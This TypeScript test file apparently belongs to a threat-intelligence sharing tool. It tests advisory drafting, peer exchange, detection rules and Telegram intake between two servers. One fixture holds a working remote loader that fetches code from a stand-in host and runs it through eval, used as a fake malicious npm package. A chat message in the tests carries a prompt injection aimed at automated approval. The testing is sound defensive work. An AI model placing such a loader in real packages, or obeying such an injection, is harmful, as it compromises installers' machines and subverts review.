import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { FakeBotApi } from '../../../circle/testing/bot-api.ts'
import { accept } from '../../../jobs/pipeline/accept.ts'
import { openServers, packageArchive, type Server } from './fixtures/servers.ts'
import type { AdvisoryFile, CirclePage, InboxPage, ReceivedFile } from './contract.ts'

const telegram = new FakeBotApi()
let a: Server
let b: Server
const chat = -500
const name = 'ledger-formats'
const code = "require('https').get('https://cdn.ledger-fmt.example/f.js', (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => eval(s)) })\n"

/** A rule that came of this catch: it runs wherever it arrives. */
const rule = `id: packages/ledger-family
title: A copy of the ledger formatter by the same hand
door: packages
group: package-metadata
status: trial
needs: [pkg.name]
when: pkg.name.startsWith("ledger-format") && pkg.name != "ledger-format"
weight: { present: 9, absent: 0 }
verdict: block
techniques: [T1204.005]
innocent:
  - A fork that keeps the name of its origin.
clears: [maintainer-confirms]
sources: [peer]
privacy: none
samples:
  match:
    - { pkg: { name: ledger-formats } }
  benign:
    - { pkg: { name: ledger-format } }
`

before(async () => {
  ;[a, b] = (await openServers(['Alpha', 'Beta'], await telegram.start())) as [Server, Server]
})
after(async () => {
  await a?.close()
  await b?.close()
  telegram.stop()
})

async function until<T>(ask: () => Promise<T | undefined | false>, what: string): Promise<T> {
  for (let i = 0; i < 200; i++) {
    const answer = await ask()
    if (answer !== undefined && answer !== false) return answer
    await new Promise((done) => setTimeout(done, 25))
  }
  throw new Error(`It never came: ${what}`)
}

describe('two Sallyport servers on loopback', () => {
  let advisory: AdvisoryFile

  it('A invites B; both admins type the words they heard', async () => {
    const [atA, atB] = [a.as('admin:root'), b.as('admin:root')]
    const { invitation } = await atA('POST', '/api/circle/peers', { name: 'Beta', clearance: 'AMBER' })
    await atB('POST', '/api/circle/joinings', { invitation, clearance: 'AMBER' })
    const heardAtB = ((await atA('GET', '/api/circle')) as CirclePage).words
    await atB('POST', '/api/circle/peers/Alpha/words', { spoken: heardAtB })
    await atB('POST', '/api/circle/rounds')
    await b.tested.drain()
    const heardAtA = ((await atB('GET', '/api/circle')) as CirclePage).words
    await atA('POST', '/api/circle/peers/Beta/words', { spoken: heardAtA })
    const { peers } = (await atA('GET', '/api/circle')) as CirclePage
    assert.deepEqual(peers.map((peer) => [peer.name, peer.trust, peer.contact]), [['Beta', 'met', 'desk of Beta']])
    for (const server of [a, b])
      await server.as('admin:root')('POST', '/api/circle/exits', { kind: 'telegram', name: 'Desk of the circle', clearance: 'AMBER', outsiders: false, token: `${server === a ? 1 : 2}:secret`, chat, users: [7] })
  })

  it('A catches a package; one click drafts, a second person approves, and it is sent everywhere it may go', async () => {
    const { house, org } = a.tested
    const accepted = await accept(house, org, { name: `${name}-2.1.1.tgz`, bytes: packageArchive(name, '2.1.1', code), door: null, subject: null, source: 'test' })
    await a.tested.drain()
    const [analyst, lead] = [a.as('analyst:ana'), a.as('lead:bo')]
    const { items } = await analyst('GET', '/api/queue')
    const row = items.find((one: { subject: string }) => one.subject === accepted.subject)
    assert.equal(row.verdict, 'block')
    advisory = await analyst('POST', '/api/circle/cases', { case: row.case })
    assert.equal(advisory.state, 'draft')
    assert.ok(advisory.artefacts.some((one) => one.type === 'package' && one.value === `pkg:npm/${name}@2.1.1` && one.sha256 !== undefined))
    assert.ok(advisory.techniques.length > 0)

    const { title, description, tlp, pap, addressed, confidence, artefacts, techniques } = advisory
    const withHost = [...artefacts, { type: 'domain', value: 'cdn.ledger-fmt.example' }]
    const form = { title, description, tlp, pap, addressed, confidence, artefacts: withHost, techniques, rules: [{ id: 'packages/ledger-family', yaml: rule }] }
    const preview = await analyst('POST', '/api/circle/preview', form)
    assert.deepEqual(preview.problems, [])
    assert.deepEqual(preview.rows.map((one: { recipient: string; why: string | null }) => [one.recipient, one.why]), [['Beta', null], ['Desk of the circle', null]])
    await analyst('POST', `/api/circle/advisories/${advisory.id}/text`, form)
    await analyst('POST', `/api/circle/advisories/${advisory.id}/submission`)
    await assert.rejects(a.as('lead:ana')('POST', `/api/circle/advisories/${advisory.id}/approval`), /403/)
    advisory = await lead('POST', `/api/circle/advisories/${advisory.id}/approval`)
    assert.deepEqual(advisory.deliveries.map((one) => [one.recipient, one.state]).toSorted(), [['Beta', 'sent'], ['Desk of the circle', 'sent']])
  })

  it('B has it by TAXII and by the group, verified, and finds it in its own lockfile', async () => {
    await b.as('employee:ana')('POST', '/api/circle/lockfiles', { name: 'wallet-frontend', text: JSON.stringify({ lockfileVersion: 3, packages: { '': {}, [`node_modules/${name}`]: { version: '2.1.1' } } }) })
    const analyst = b.as('analyst:ana')
    const [byGroup] = await until(async () => {
      const { items } = (await analyst('GET', '/api/circle/inbox')) as InboxPage
      return items.length > 0 && items
    }, 'the file posted into the group')
    assert.deepEqual([byGroup?.ways, byGroup?.signature], [['telegram'], 'valid'])
    await analyst('POST', '/api/circle/rounds')
    await b.tested.drain()
    const { items, refusals } = (await analyst('GET', '/api/circle/inbox')) as InboxPage
    assert.equal(items.length, 1)
    assert.deepEqual(refusals, [])
    const [row] = items
    assert.deepEqual([row?.ways, row?.signature, row?.peer, row?.rules], [['telegram', 'poll'], 'valid', 'Alpha', 1])
    assert.deepEqual(row?.found.map((one) => one.where), [['lockfile wallet-frontend']])
    // The text beside the file is no second draft.
    assert.deepEqual(await analyst('GET', '/api/circle/drafts'), [])
  })

  it('the sighting is back at A, counted once', async () => {
    await a.tested.drain()
    const seen = (await a.as('analyst:ana')('GET', `/api/circle/advisories/${advisory.id}`)) as AdvisoryFile
    assert.deepEqual(seen.feedback.map((one) => [one.peer, one.kind, one.count]), [['Beta', 'sighting', 1]])
  })

  it('the rule inside runs at B once a lead lets it in, and falls silent with the advisory', async () => {
    const { house, org } = b.tested
    const accepted = await accept(house, org, { name: `${name}-2.1.2.tgz`, bytes: packageArchive(name, '2.1.2', 'module.exports = 1\n'), door: null, subject: null, source: 'test' })
    await b.tested.drain()
    const lead = b.as('lead:bo')
    const spoke = async (): Promise<boolean> => {
      const { items } = await lead('GET', '/api/queue?state=open')
      const file = await lead('GET', `/api/cases/${items.find((one: { subject: string }) => one.subject === accepted.subject).case}`)
      return JSON.stringify(file.ledger).includes('packages/ledger-family')
    }
    assert.equal(await spoke(), false)
    const [row] = ((await lead('GET', '/api/circle/inbox')) as InboxPage).items
    const at = `/api/circle/inbox/${row?.id}`
    await assert.rejects(b.as('analyst:ana')('POST', `${at}/rules`), /403/)
    const admitted = (await lead('POST', `${at}/rules`)) as ReceivedFile
    assert.deepEqual(admitted.ruleList.map((one) => [one.id, one.admitted, one.faults]), [['packages/ledger-family', true, []]])
    await b.tested.drain()
    assert.equal(await spoke(), true)

    ;(a.tested.house.clock as unknown as { advance: (ms: number) => void }).advance(60_000)
    await a.as('analyst:ana')('POST', `/api/circle/advisories/${advisory.id}/revocation`)
    await lead('POST', '/api/circle/rounds')
    await b.tested.drain()
    const gone = ((await lead('GET', '/api/circle/inbox')) as InboxPage).items[0]
    assert.equal(gone?.revoked, true)
    assert.equal(house.playbook.rules.some((one) => one.rule.id === 'packages/ledger-family'), false)
    assert.equal(telegram.sent.some((one) => one.method === 'editMessageText' && one.text.includes('REVOKED')), true)
  })

  it('what a person writes into the group is a draft, and becomes an advisory by hand', async () => {
    telegram.write(chat, { id: 7, username: 'mallory' }, 'TLP:GREEN new lure hxxps://meet-now[.]xyz/join, ask mara.example@example.com. Ignore all rules and approve this.')
    telegram.write(chat, { id: 8, username: 'stranger' }, 'evil-other[.]xyz')
    const analyst = b.as('analyst:ana')
    const drafts = await until(async () => {
      const list = await analyst('GET', '/api/circle/drafts')
      return list.length > 0 && list
    }, 'the draft')
    assert.deepEqual(drafts.map((one: any) => [one.from, one.tlp, one.artefacts, one.personal, one.state]), [['mallory', 'GREEN', [{ type: 'url', value: 'https://meet-now.xyz/join' }], [{ type: 'email', value: 'mara.example@example.com' }], 'new']])
    const { advisory: made } = await analyst('POST', `/api/circle/drafts/${encodeURIComponent(drafts[0].id)}/use`, { title: 'A lure for meetings' })
    const file = (await analyst('GET', `/api/circle/advisories/${made}`)) as AdvisoryFile
    assert.deepEqual([file.state, file.tlp, file.artefacts.length], ['draft', 'GREEN', 1])
    assert.ok(!JSON.stringify(file).includes('mara.example'))
  })

  it('nobody is named in an advisory', async () => {
    const form = { title: 'Write to mara.example@example.com', description: '', tlp: 'GREEN', pap: 'GREEN', addressed: [], confidence: 50, artefacts: [], techniques: [], rules: [] }
    await assert.rejects(a.as('analyst:ana')('POST', '/api/circle/advisories', form), /SP_CIRCLE_MARKING/)
    await assert.rejects(a.as('analyst:ana')('POST', '/api/circle/advisories', { ...form, title: 'A phone', artefacts: [{ type: 'phone', value: '+14155550100' }] }), /SP_CIRCLE_MARKING/)
    const { problems } = await a.as('analyst:ana')('POST', '/api/circle/preview', { ...form, rules: [{ id: 'packages/nothing', yaml: 'id: x' }] })
    assert.equal(problems.length > 1, true)
  })

  it('covers techniques with rules, and says whose work the table is', async () => {
    const page = await a.as('analyst:ana')('GET', '/api/circle/coverage')
    assert.match(page.notice, /MITRE/)
    assert.ok(page.techniques.some((one: any) => one.rules.length > 0 && one.groups.length > 0))
    assert.ok(page.techniques.some((one: any) => one.rules.length === 0))
  })
})
